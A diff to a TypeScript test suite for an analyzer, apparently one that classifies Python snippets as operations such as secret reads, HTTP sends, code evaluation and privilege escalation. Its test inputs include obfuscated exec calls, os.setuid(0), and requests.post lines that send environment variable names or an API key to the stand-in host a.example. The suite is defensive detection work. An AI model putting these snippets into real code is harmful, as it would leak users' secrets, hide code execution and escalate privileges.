@@ -71,6 +71,16 @@ test.each<[string, readonly string[]]>([
     'import os, requests\nrequests.post("https://a.example", data=list(os.environ.keys()))',
     ["read-secret $*", "send http https://a.example [~[…] <$*>]"],
   ],
+  ['exec("id".encode("utf-16").decode("utf-16"))', ["evaluate python id {utf-16}"]],
+  ["exec(bytes('摩','u16')[2:])", ["evaluate python id"]],
+  ['exec(str.join("", ["i", "d"]))', ["evaluate python id"]],
+  ['exec(bytes.decode(str.encode("id")))', ["evaluate python id"]],
+  ['import execjs\nexecjs.eval("1+1")', ["evaluate javascript 1+1"]],
+  ["import os\nos.setuid(0)", ["escalate setuid"]],
+  [
+    'import decouple, requests\nrequests.post("https://a.example", data=decouple.config("API_KEY"))',
+    ["read-secret $API_KEY", "send http https://a.example [~… <$API_KEY>]"],
+  ],
 ])("%s", (text, expected) => {
   expect(operationsOf(text)).toEqual(expected);
 });
